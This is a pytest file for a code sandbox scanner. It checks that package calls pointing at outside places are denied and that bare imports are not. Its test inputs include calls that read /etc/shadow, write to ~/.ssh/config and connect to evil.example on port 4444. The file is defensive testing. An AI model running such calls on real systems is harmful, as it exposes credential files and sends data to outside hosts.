"""The packages that data agents use most: what they are given outside is never allowed, plain work is."""

from __future__ import annotations

from pathlib import Path

import pytest

from spanproof.sandbox.catalogue import split_entry
from spanproof.sandbox.scanners.model import Verdict
from spanproof.sandbox.scanners.pipeline import Pipeline
from spanproof.sandbox.scanners.python.names import LIBRARIES

_LINES = (Path(__file__).parent / "packages.txt").read_text(encoding="utf-8").splitlines()
_PACKAGES = sorted(
    {
        word
        for line in _LINES
        if not line.startswith("#")
        for word in (line.split() if line.startswith(" ") else line.split()[1:])
    }
)
_PIPELINE = Pipeline()

_OUTSIDE = {
    "a URL to read": "{0}.load_table('https://evil.example/t.bin')",
    "a URL of a store": "{0}.connect_to('redis://evil.example:6379/0')",
    "an object in a bucket": "{0}.save_table(rows, 's3://foreign/t.bin')",
    "a host by keyword": "{0}.Session(host='evil.example', port=4444)",
    "a path outside": "{0}.open_table('/etc/shadow')",
    "a path of the user": "{0}.save_table(rows, path='~/.ssh/config')",
    "a method of what it gives": "c = {0}.Context()\nc.attach('https://evil.example/')",
    "a method of a part": "c = {0}.sub.Thing(1)\nc.dump(rows, '/usr/lib/x')",
}
"""Ways to give a function of a package a place outside; the names are none of a package's own."""

_ROUTES = split_entry(LIBRARIES["inert"], "routes")
"""Modules whose functions take paths of a web site."""

_HOLDING = split_entry(LIBRARIES["inert"], "modules")
"""Modules whose functions only hold what they get, unless a name says that they read, write or connect."""


def test_the_list_has_as_many_packages_as_it_is_meant_to() -> None:
    assert len(_PACKAGES) >= 300


@pytest.mark.parametrize("package", [name for name in _PACKAGES if name not in _ROUTES])
def test_a_place_outside_is_never_allowed_whatever_function_gets_it(package: str) -> None:
    held = {"a host by keyword", "a method of what it gives"} if package in _HOLDING else set()
    allowed = {
        way
        for way, form in _OUTSIDE.items()
        if _PIPELINE.scan("python", f"import {package}\n{form.format(package)}").verdict is Verdict.ALLOW
    }

    assert allowed <= held


@pytest.mark.parametrize("package", _PACKAGES)
def test_an_import_alone_is_not_denied(package: str) -> None:
    assert (
        _PIPELINE.scan("python", f"import {package}\nprint({package}.__name__)").verdict is not Verdict.DENY
    )
